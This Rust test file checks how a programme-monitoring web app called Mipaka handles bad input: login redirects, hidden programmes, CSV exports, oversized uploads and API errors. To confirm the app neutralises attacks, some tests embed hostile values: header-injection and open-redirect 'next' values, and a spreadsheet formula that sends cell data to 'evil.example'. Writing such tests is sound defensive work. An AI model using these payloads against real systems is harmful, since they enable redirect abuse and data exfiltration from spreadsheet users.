//! Bad input is answered with what is wrong, changes nothing, and never gives a 500.

use rocket::http::{ContentType, Status};

use crate::on_both_backends;
use crate::support::{demo_password, input_value, urlencode};

on_both_backends! {
    // A `next` a Location header cannot carry (TAB, NUL, a line break) goes home;
    // sign-in still works and nothing fails after the session was written.
    fn sign_in_with_an_unusable_next_goes_home(t) {
        let db = t.with_demo();
        for (next, goes_to) in [
            ("/programmes/LBP\t", "/"),
            ("/programmes\0/LBP", "/"),
            ("/programmes/LBP\r\nSet-Cookie: x=1", "/"),
            ("//evil.example/", "/"),
            ("/programmes/LBP?tab=1", "/programmes/LBP?tab=1"),
        ] {
            let client = t.client(db.clone());
            // The sign-in page itself, asked with such a next, renders.
            let r = client.get(format!("/login?next={}", urlencode(next))).dispatch();
            assert_eq!(r.status(), Status::Ok, "GET /login?next={next:?}");
            let page = r.into_string().unwrap();
            let csrf = input_value(&page, "csrf").unwrap();
            let r = client
                .post("/login")
                .header(ContentType::Form)
                .body(format!(
                    "username=manager&password={}&csrf={csrf}&next={}",
                    urlencode(demo_password("manager")),
                    urlencode(next)
                ))
                .dispatch();
            assert_eq!(r.status(), Status::SeeOther, "next={next:?}");
            assert_eq!(r.headers().get_one("Location"), Some(goes_to), "next={next:?}");
        }
    }
}

on_both_backends! {
    // A manager of LBP alone asks for a comparison with a side in Deris Wanaag: the answer
    // must read exactly as for a programme code that does not exist.
    fn a_hidden_programme_in_a_comparison_reads_like_a_missing_one(t) {
        let db = t.with_demo();
        {
            let c = &mut *db.get().unwrap();
            let u = mipaka::models::user::create(
                c,
                &mipaka::models::user::NewAccount {
                    username: "lbponly",
                    display_name: "LBP only",
                    email: "",
                    password: "lbp-only-password-1",
                    is_admin: false,
                },
            )
            .unwrap();
            mipaka::models::user::grant_role(c, u.id, "LBP", "manager").unwrap();
        }
        let client = t.client(db);
        crate::support::sign_in(&client, "lbponly", "lbp-only-password-1");
        let ask = |code: &str| {
            let r = client
                .get(format!("/programmes/LBP/compare?sides={code}:2021%2C2025"))
                .dispatch();
            (r.status(), r.into_string().unwrap_or_default())
        };
        let (hidden_status, hidden) = ask("DW");
        let (missing_status, missing) = ask("QQ");
        assert_eq!(hidden_status, missing_status);
        assert!(missing.contains("QQ: no programme has this code"), "{missing}");
        assert!(!hidden.contains("Deris Wanaag"), "the hidden programme is named");
        assert_eq!(hidden, missing.replace("QQ", "DW"), "the two answers differ beyond the code");
    }
}

on_both_backends! {
    // A comment or a title typed as a formula leaves Mipaka as text in every CSV:
    // the values export, the entry template and compare.csv; negative numbers stay numbers.
    fn formulas_typed_by_people_leave_as_text_in_every_csv(t) {
        use diesel::connection::SimpleConnection;
        let db = t.with_demo();
        let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        let period = {
            let c = &mut *db.get().unwrap();
            c.batch_execute(&format!(
                "UPDATE indicator_values SET comment = '{}' WHERE id IN (SELECT v.id FROM indicator_values v \
                 JOIN indicators i ON i.id = v.indicator_id JOIN programmes p ON p.id = i.programme_id \
                 WHERE p.code = 'LBP'); \
                 UPDATE indicators SET title = '@SUM(A1:A9)' WHERE code = 'LBP-0.1'",
                evil.replace('\'', "''")
            ))
            .unwrap();
            #[derive(diesel::QueryableByName)]
            struct P {
                #[diesel(sql_type = diesel::sql_types::Text)]
                period: String,
            }
            let p: P = mipaka::db_run!(c: {
                diesel::RunQueryDsl::get_result(diesel::sql_query(
                    "SELECT MAX(v.period) AS period FROM indicator_values v JOIN indicators i ON i.id = v.indicator_id \
                     JOIN programmes p ON p.id = i.programme_id WHERE p.code = 'LBP'",
                ), c)
                .unwrap()
            });
            p.period
        };
        let client = t.client(db);
        crate::support::sign_in(&client, "manager", demo_password("manager"));
        let get = |path: String| {
            let r = client.get(path.clone()).dispatch();
            assert_eq!(r.status(), Status::Ok, "{path}");
            r.into_string().unwrap()
        };
        let cells = |csv: &str| -> Vec<String> {
            let mut rd = ::csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
            rd.records().flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>()).collect()
        };
        for (what, csv) in [
            ("values export", get("/programmes/LBP/csv/export".into())),
            ("entry template", get(format!("/programmes/LBP/csv/template?period={period}"))),
            ("compare.csv", get("/programmes/LBP/compare.csv?sides=2025Q1..2025Q2%2C2025Q3..2025Q4".into())),
        ] {
            let all = cells(&csv);
            assert!(all.len() > 20, "{what}: {} cells", all.len());
            for c in &all {
                assert!(
                    !(c.starts_with(['=', '+', '@', '\t', '\r'])
                        || (c.starts_with('-') && c.parse::<f64>().is_err())),
                    "{what}: a cell a spreadsheet would run: {c:?}"
                );
            }
            let expected = if what == "compare.csv" { "'@SUM(A1:A9)".to_string() } else { format!("'{evil}") };
            assert!(all.contains(&expected), "{what}: the formula is kept, as text");
        }
    }
}

on_both_backends! {
    // An upload over the limit is told the limit; the tab icon is served, not a 404.
    fn a_too_large_upload_is_told_the_limit_and_the_icon_is_served(t) {
        let db = t.with_demo();
        let client = t.client(db);
        let r = client.get("/favicon.ico").dispatch();
        assert_eq!(r.status(), Status::Ok);
        assert_eq!(r.content_type().map(|c| c.to_string()), Some("image/svg+xml".to_string()));
        let csrf = crate::support::sign_in(&client, "manager", demo_password("manager"));
        // Over the file limit, and over the whole form's.
        for extra in [1, 3] {
        let mut csv = b"period,indicator_code,county_code,value\r\n".to_vec();
        csv.resize(csv.len() + (mipaka::UPLOAD_LIMIT_MIB as usize + extra) * 1024 * 1024, b'1');
        let r = preview(&client, &csrf, &csv);
        assert_eq!(r.status(), Status::PayloadTooLarge, "{extra} MB over");
        let page = r.into_string().unwrap();
        assert!(page.contains(&format!("larger than the {} MB", mipaka::UPLOAD_LIMIT_MIB)), "{page}");
        }
    }
}

on_both_backends! {
    // The API as its OpenAPI document says: a cleared value answers what was cleared; a
    // body that is not JSON is 415; an id that is not a number says so.
    fn api_answers_say_what_happened_and_what_is_wrong(t) {
        use rocket::http::Header;
        use serde_json::Value;
        let db = t.with_demo();
        let (token, id, version) = {
            let c = &mut *db.get().unwrap();
            let u = mipaka::models::user::by_username(c, "manager").unwrap().unwrap();
            let token = mipaka::models::session::create_token(c, u.id, "test", mipaka::clock::now()).unwrap().1;
            #[derive(diesel::QueryableByName)]
            struct V {
                #[diesel(sql_type = diesel::sql_types::Integer)]
                id: i32,
                #[diesel(sql_type = diesel::sql_types::Integer)]
                version: i32,
            }
            let v: V = mipaka::db_run!(c: {
                diesel::RunQueryDsl::get_result(diesel::sql_query(
                    "SELECT v.id AS id, v.version AS version FROM indicator_values v JOIN indicators i ON i.id = v.indicator_id \
                     JOIN programmes p ON p.id = i.programme_id WHERE p.code = 'LBP' AND v.status = 'draft' \
                     AND v.disaggregation = '' ORDER BY v.id LIMIT 1",
                ), c)
                .unwrap()
            });
            (token, v.id, v.version)
        };
        let client = t.client(db);
        let auth = Header::new("Authorization", format!("Bearer {token}"));
        let r = client
            .put(format!("/api/v1/programmes/LBP/values/{id}"))
            .header(auth.clone())
            .header(ContentType::Plain)
            .body(format!("{{\"value\": 3, \"version\": {version}}}"))
            .dispatch();
        assert_eq!(r.status(), Status::UnsupportedMediaType);
        let body: Value = r.into_json().unwrap();
        assert!(body["error"]["message"].as_str().unwrap().contains("application/json"), "{body}");
        let r = client
            .put("/api/v1/programmes/LBP/values/abc")
            .header(auth.clone())
            .header(ContentType::JSON)
            .body("{\"value\": 3, \"version\": 1}")
            .dispatch();
        assert_eq!(r.status(), Status::UnprocessableEntity);
        let body: Value = r.into_json().unwrap();
        assert!(body["error"]["message"].as_str().unwrap().contains("ids are whole numbers"), "{body}");
        let r = client
            .put(format!("/api/v1/programmes/LBP/values/{id}"))
            .header(auth)
            .header(ContentType::JSON)
            .body(format!("{{\"value\": null, \"version\": {version}}}"))
            .dispatch();
        assert_eq!(r.status(), Status::Ok);
        let body: Value = r.into_json().unwrap();
        assert_eq!(body["cleared"], true, "{body}");
        assert!(body["indicator"].is_string() && body["county"].is_string() && body["period"].is_string(), "{body}");
    }
}

on_both_backends! {
    // A file of 300,000 bad rows is read row by row: the preview lists the first 200
    // problems, counts all of them by column, and stays a page of ordinary size.
    fn a_huge_file_of_bad_rows_gets_a_small_page_with_the_first_problems_and_counts(t) {
        let db = t.with_demo();
        let client = t.client(db);
        let csrf = crate::support::sign_in(&client, "manager", demo_password("manager"));
        let rows = 300_000;
        let mut csv = String::from("period,indicator_code,county_code,disaggregation,value,comment\n");
        for i in 0..rows {
            csv.push_str(&format!("2026Q2,NOPE-{i},001,,12,\n"));
        }
        let r = preview(&client, &csrf, csv.as_bytes());
        assert_eq!(r.status(), Status::UnprocessableEntity);
        let page = r.into_string().unwrap();
        assert!(page.len() < 150_000, "the page is {} bytes", page.len());
        assert!(page.contains(&format!("The file has {rows} problems; the first 200 by line are listed below")), "{}", &page[..page.len().min(3000)]);
        assert!(page.contains(&format!("indicator_code {rows}")), "counted by column");
        assert_eq!(page.matches("NOPE-").count(), 200, "200 problems listed");
        assert!(page.contains("NOPE-0") && page.contains("NOPE-199") && !page.contains("NOPE-200'"), "the first by line");
    }
}

/// Uploads `csv` to LBP's CSV preview as the browser's form would (multipart).
fn preview<'c>(
    client: &'c rocket::local::blocking::Client,
    csrf: &str,
    csv: &[u8],
) -> rocket::local::blocking::LocalResponse<'c> {
    let mut body = format!(
        "--XyZ\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{csrf}\r\n\
         --XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"upload.csv\"\r\n\
         Content-Type: text/csv\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(csv);
    body.extend_from_slice(b"\r\n--XyZ--\r\n");
    client
        .post("/programmes/LBP/csv/preview")
        .header(ContentType::new("multipart", "form-data").with_params(("boundary", "XyZ")))
        .body(body)
        .dispatch()
}
